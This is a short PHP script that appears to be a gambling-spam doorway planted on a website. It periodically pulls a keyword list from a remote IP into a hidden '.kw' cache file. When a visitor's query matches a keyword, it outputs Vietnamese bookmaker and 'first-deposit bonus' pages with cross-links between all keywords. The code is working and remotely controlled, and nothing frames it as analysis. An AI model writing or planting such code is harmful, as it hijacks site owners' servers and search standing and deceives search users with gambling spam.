<?php
$c = __DIR__ . '/.kw'; 
if (!is_file($c) || time() - filemtime($c) > 3600) { @file_put_contents($c, @file_get_contents('http://192.0.2.77/kw.txt')); }
$kw = array_filter(explode("\n", (string) @file_get_contents($c)));
$q = trim($_GET['q'] ?? '');
if (in_array($q, $kw, true)) {
    $t = htmlspecialchars($q);
    echo "<!doctype html><title>$t - Link vào nhà cái uy tín 2026</title><h1>$t</h1>";
    foreach ($kw as $k) { echo '<a href="?q=' . urlencode($k) . '">' . htmlspecialchars($k) . ' khuyến mãi nạp đầu</a> '; }
    exit;
}
